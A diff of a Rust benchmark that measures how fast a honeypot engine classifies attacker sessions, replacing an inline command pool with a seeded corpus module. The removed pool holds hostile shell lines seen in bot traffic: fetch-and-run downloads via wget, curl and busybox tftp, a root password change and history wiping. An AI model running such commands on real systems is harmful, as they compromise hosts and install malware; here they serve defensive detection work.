@@ -1,123 +1,52 @@
-//! Classification throughput: sessions of one login and 20 commands against the default
-//! catalog, compiled matcher vs the naive one-primitive-at-a-time baseline, in the same run.
+//! Classification throughput: sessions of one login and 20 command lines against the default
+//! catalog — the compiled matcher cold (`classify_uncached`: every line split and matched
+//! afresh, the acceptance figure), the same with the per-thread line cache (`classify`), and
+//! the naive one-primitive-at-a-time baseline (`classify_naive`), all in the same run.
 //!
 //! `cargo bench -p sikker-engine --bench classify` (add `-- --quick` for a shorter run).
-//! After Criterion's own report it prints sessions/s for both and their ratio, measured on one
-//! core (the benchmark is single-threaded). `classify` keeps a per-thread cache of what each
-//! command line matched; the corpus repeats lines across sessions as real bot traffic does, so
-//! the cold figure (`classify_uncached`, every line split and matched afresh) is printed beside.
+//! The corpus (`corpus/mod.rs`) is seeded and written from real tradecraft with varied hosts,
+//! names and keys; the summary after Criterion's report says how many sessions classified,
+//! into what, and how many lines are distinct, then sessions/s per wall second and per CPU
+//! second of the (single) benchmark thread, and the ratios to naive.
+//! Figures and the machine they came from: `crates/sikker-engine/README.md`.
 
-use criterion::{criterion_group, Criterion, Throughput};
-use sikker_engine::Engine;
-use sikker_event::{Auth, AuthMethod, Event, EventData, Protocol};
+mod corpus;
+
+use criterion::{criterion_group, Criterion, SamplingMode, Throughput};
+use sikker_engine::{Engine, Outcome};
+use sikker_event::{Event, EventData};
+use std::collections::{BTreeMap, HashSet};
 use std::hint::black_box;
 use std::time::{Duration, Instant};
-use uuid::Uuid;
 
-const COMMANDS_PER_SESSION: usize = 20;
-const SESSIONS: usize = 512;
+const SESSIONS: usize = 2048;
+const SEED: u64 = 0x5EED_2024;
 
-/// Commands seen in real honeypot sessions, matched and unmatched.
-const POOL: &[&str] = &[
-    "uname -a",
-    "cat /proc/cpuinfo | grep name | wc -l",
-    "cd /tmp; wget http://203.0.113.5/bins.sh; chmod 777 bins.sh; sh bins.sh",
-    "/bin/busybox ECCHI",
-    "enable",
-    "system",
-    "shell",
-    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
-    "ls -lh $(which ls)",
-    "crontab -l",
-    "w",
-    "top",
-    "whoami",
-    "lscpu | grep Model",
-    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
-    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
-    "echo \"root:lLPt9RKLVNM4\"|chpasswd|bash",
-    "curl -fsSL http://203.0.113.7/init.sh | sh",
-    "nvidia-smi -q | grep \"Product Name\"",
-    "history -c; unset HISTFILE",
-    "tar xzf x.tgz && cd x && ./configure && make",
-    "export PATH=$PATH:/usr/local/bin",
-    "ps aux | grep -v grep | grep xmrig",
-    "echo ok",
-    "cat /etc/os-release",
-    "ifconfig; ip addr",
-    "sh -c 'cd /var/run && busybox tftp -g -r mips 203.0.113.9 && chmod +x mips && ./mips'",
-    "vim /etc/hosts",
-    "apt-get update -y",
-    "python3 -V",
-];
-
-fn sessions() -> Vec<Vec<Event>> {
-    let ip = "198.51.100.23".parse().expect("literal address");
-    // A fixed linear congruential sequence: the same corpus on every run.
-    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
-    let mut next = move || {
-        x = x
-            .wrapping_mul(6364136223846793005)
-            .wrapping_add(1442695040888963407);
-        (x >> 33) as usize
-    };
-    (0..SESSIONS)
-        .map(|i| {
-            let session = Uuid::from_u128(i as u128 + 1);
-            let protocol = if i % 3 == 0 {
-                Protocol::Telnet
-            } else {
-                Protocol::Ssh
-            };
-            let mut events = vec![Event::new(
-                "bench",
-                session,
-                protocol,
-                ip,
-                40000,
-                22,
-                EventData::Auth(Auth {
-                    method: AuthMethod::Password,
-                    username: "root".into(),
-                    password: Some(["admin", "xc3511", "123456", "root"][i % 4].into()),
-                    key_type: None,
-                    key_fingerprint: None,
-                    success: true,
-                }),
-            )];
-            for _ in 0..COMMANDS_PER_SESSION {
-                let line = POOL[next() % POOL.len()];
-                events.push(Event::new(
-                    "bench",
-                    session,
-                    protocol,
-                    ip,
-                    40000,
-                    22,
-                    EventData::Command { line: line.into() },
-                ));
-            }
-            events
-        })
+fn corpus() -> Vec<Vec<Event>> {
+    corpus::sessions(SEED, SESSIONS)
+        .into_iter()
+        .map(|(_, s)| s)
         .collect()
 }
 
 fn bench(c: &mut Criterion) {
     let engine = Engine::builtin();
-    let corpus = sessions();
+    let corpus = corpus();
     let mut group = c.benchmark_group("classify");
-    group.throughput(Throughput::Elements(corpus.len() as u64));
-    group.bench_function("compiled", |b| {
-        b.iter(|| {
-            for s in &corpus {
-                black_box(engine.classify(black_box(s)));
-            }
-        })
-    });
-    group.bench_function("compiled_uncached", |b| {
+    group
+        .throughput(Throughput::Elements(corpus.len() as u64))
+        .sampling_mode(SamplingMode::Flat);
+    group.bench_function("cold", |b| {
         b.iter(|| {
             for s in &corpus {
                 black_box(engine.classify_uncached(black_box(s)));
+            }
+        })
+    });
+    group.bench_function("line_cache", |b| {
+        b.iter(|| {
+            for s in &corpus {
+                black_box(engine.classify(black_box(s)));
             }
         })
     });
@@ -131,20 +60,17 @@ fn bench(c: &mut Criterion) {
     group.finish();
 }
 
-/// CPU seconds this process has used (user + system), from /proc; `None` off Linux. On a
-/// shared machine wall time undercounts what one core does, so both are printed.
-fn cpu_seconds() -> Option<f64> {
-    let stat = std::fs::read_to_string("/proc/self/stat").ok()?;
-    // Fields after the parenthesised command name; utime and stime are the 12th and 13th.
-    let rest = stat.rsplit_once(')')?.1;
-    let f: Vec<&str> = rest.split_whitespace().collect();
-    let ticks: f64 = f.get(11)?.parse::<f64>().ok()? + f.get(12)?.parse::<f64>().ok()?;
-    Some(ticks / 100.0)
+/// CPU time of the calling thread, from the scheduler's nanosecond account; `None` off Linux.
+/// On a shared machine wall time undercounts what one core does, so both are printed.
+fn thread_cpu() -> Option<Duration> {
+    let stat = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
+    let ns: u64 = stat.split_whitespace().next()?.parse().ok()?;
+    Some(Duration::from_nanos(ns))
 }
 
 /// Sessions per wall-clock second and per CPU second over at least `budget` of wall time.
 fn rate(budget: Duration, corpus: &[Vec<Event>], f: &dyn Fn(&[Event])) -> (f64, Option<f64>) {
-    let cpu0 = cpu_seconds();
+    let cpu0 = thread_cpu();
     let start = Instant::now();
     let mut done = 0usize;
     while start.elapsed() < budget {
@@ -154,77 +80,115 @@ fn rate(budget: Duration, corpus: &[Vec<Event>], f: &dyn Fn(&[Event])) -> (f64, 
         done += corpus.len();
     }
     let wall = start.elapsed().as_secs_f64();
-    let cpu = match (cpu0, cpu_seconds()) {
-        (Some(a), Some(b)) if b > a => Some(done as f64 / (b - a)),
+    let cpu = match (cpu0, thread_cpu()) {
+        (Some(a), Some(b)) if b > a => Some(done as f64 / (b - a).as_secs_f64()),
         _ => None,
     };
     (done as f64 / wall, cpu)
 }
 
+/// What the corpus is made of, so a reader can judge it: outcomes, behaviors, distinct lines.
+fn describe(engine: &Engine, corpus: &[Vec<Event>]) {
+    let mut behaviors: BTreeMap<String, usize> = BTreeMap::new();
+    let (mut unclassified, mut nothing, mut disagree) = (0, 0, 0);
+    for s in corpus {
+        let c = engine.classify_uncached(s);
+        if c != engine.classify_naive(s) || c != engine.classify(s) {
+            disagree += 1;
+        }
+        match c.outcome {
+            Outcome::Behavior(b) => *behaviors.entry(b).or_default() += 1,
+            Outcome::Unclassified => unclassified += 1,
+            Outcome::Nothing => nothing += 1,
+        }
+    }
+    let lines: Vec<&str> = corpus
+        .iter()
+        .flatten()
+        .filter_map(|e| match &e.data {
+            EventData::Command { line } => Some(line.as_str()),
+            _ => None,
+        })
+        .collect();
+    let distinct: HashSet<&str> = lines.iter().copied().collect();
+    let classified: usize = behaviors.values().sum();
+    let pct = |n: usize, of: usize| 100.0 * n as f64 / of.max(1) as f64;
+    let cat = engine.catalog();
+    println!();
+    println!(
+        "catalog: {} primitives, {} behaviors",
+        cat.primitives.len(),
+        cat.behaviors.len()
+    );
+    println!(
+        "corpus: {} sessions x (1 login + {} command lines), seed {SEED:#x}; {} lines, {} distinct ({:.0}%), {:.0} bytes per line",
+        corpus.len(),
+        corpus::COMMANDS_PER_SESSION,
+        lines.len(),
+        distinct.len(),
+        pct(distinct.len(), lines.len()),
+        lines.iter().map(|l| l.len()).sum::<usize>() as f64 / lines.len().max(1) as f64,
+    );
+    println!(
+        "outcomes: {classified} classified to a behavior ({:.1}%), {unclassified} unclassified, {nothing} nothing; cold, cached and naive disagree on {disagree} sessions",
+        pct(classified, corpus.len())
+    );
+    let mut by_count: Vec<(&String, &usize)> = behaviors.iter().collect();
+    by_count.sort_by(|a, b| b.1.cmp(a.1).then(a.0.cmp(b.0)));
+    for (b, n) in by_count {
+        println!("  {n:>5}  {:>5.1}%  {b}", pct(*n, corpus.len()));
+    }
+}
+
 fn summary() {
     let engine = Engine::builtin();
-    let corpus = sessions();
-    let agree = corpus.iter().all(|s| {
-        let naive = engine.classify_naive(s);
-        engine.classify(s) == naive && engine.classify_uncached(s) == naive
-    });
-    let classified = corpus
-        .iter()
-        .filter(|s| engine.classify(s).outcome.behavior().is_some())
-        .count();
+    let corpus = corpus();
+    describe(&engine, &corpus);
     let budget = Duration::from_secs(3);
-    let compiled = rate(budget, &corpus, &|s| {
-        black_box(engine.classify(black_box(s)));
-    });
     let cold = rate(budget, &corpus, &|s| {
         black_box(engine.classify_uncached(black_box(s)));
+    });
+    let cached = rate(budget, &corpus, &|s| {
+        black_box(engine.classify(black_box(s)));
     });
     let naive = rate(budget, &corpus, &|s| {
         black_box(engine.classify_naive(black_box(s)));
     });
-    let cat = engine.catalog();
-    println!();
-    println!(
-        "catalog: {} primitives, {} behaviors; corpus: {} sessions x (1 login + {} commands), {} classified to a behavior, compiled == naive: {}",
-        cat.primitives.len(),
-        cat.behaviors.len(),
-        corpus.len(),
-        COMMANDS_PER_SESSION,
-        classified,
-        agree
-    );
     let show = |r: Option<f64>| r.map_or("n/a".to_string(), |r| format!("{r:.0}"));
-    println!("                  sessions/s (wall)   sessions/s (per CPU second, one thread)");
     let ratio = |a: (f64, Option<f64>)| {
         let cpu = match (a.1, naive.1) {
-            (Some(c), Some(n)) => format!("{:.1}", c / n),
+            (Some(c), Some(n)) => format!("{:.1}x", c / n),
             _ => "n/a".into(),
         };
-        format!("{:>16.1}x   {:>16}x", a.0 / naive.0, cpu)
+        format!("{:>8.1}x {:>12}", a.0 / naive.0, cpu)
     };
+    println!();
+    println!("                           sessions/s        vs naive");
+    println!("                       wall   per CPU s    wall   per CPU s");
     println!(
-        "compiled matcher: {:>17.0}   {:>17}   (line cache warm: lines recur across sessions)",
-        compiled.0,
-        show(compiled.1)
+        "cold (acceptance): {:>9} {:>10}  {}   classify_uncached: no line cache, every line split and matched afresh",
+        format!("{:.0}", cold.0),
+        show(cold.1),
+        ratio(cold)
     );
     println!(
-        "compiled, cold:   {:>17.0}   {:>17}   (no line cache: every line matched afresh)",
-        cold.0,
-        show(cold.1)
+        "line cache:        {:>9} {:>10}  {}   classify: per-thread cache of each line's matches",
+        format!("{:.0}", cached.0),
+        show(cached.1),
+        ratio(cached)
     );
     println!(
-        "naive baseline:   {:>17.0}   {:>17}   (one primitive at a time)",
-        naive.0,
-        show(naive.1)
+        "naive baseline:    {:>9} {:>10}  {}   classify_naive: one primitive at a time",
+        format!("{:.0}", naive.0),
+        show(naive.1),
+        ratio(naive)
     );
-    println!("ratio, compiled:  {}", ratio(compiled));
-    println!("ratio, cold:      {}", ratio(cold));
 }
 
 criterion_group! {
     name = benches;
     config = Criterion::default()
-        .sample_size(20)
+        .sample_size(10)
         .warm_up_time(Duration::from_secs(1))
         .measurement_time(Duration::from_secs(3));
     targets = bench
@@ -233,5 +197,8 @@ criterion_group! {
 fn main() {
     benches();
     Criterion::default().configure_from_args().final_summary();
-    summary();
+    // A profiling run (`-- --profile-time N`) wants the benchmark loop alone.
+    if !std::env::args().any(|a| a == "--profile-time") {
+        summary();
+    }
 }
